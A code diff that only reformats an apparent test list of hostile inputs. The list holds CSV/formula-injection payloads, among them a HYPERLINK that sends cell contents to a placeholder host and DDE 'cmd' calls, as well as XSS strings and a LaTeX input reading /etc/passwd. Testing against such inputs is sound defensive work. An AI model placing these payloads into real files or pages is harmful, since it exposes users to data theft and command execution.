@@ -29,7 +29,8 @@ PAYLOADS = [
     '=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "＝1+1", "<img src=x onerror=alert(1)>",
     "<script>alert(1)</script>", "[sound:evil.mp3]", "[latex]\\input{/etc/passwd}[/latex]",
-    "# not a heading", "> not a quote", "===", "---", "1) a list item, as banks write them", "- real item",
+    "# not a heading", "> not a quote", "===", "---", "1) a list item, as banks write them",
+    "- real item",
     "`` ` `` code", "&lt;b&gt; &#91;", "x_i * w < 0 | y ~ z $a$",
 ]
 TAG = "a`<img src=x onerror=alert(1)>`b"
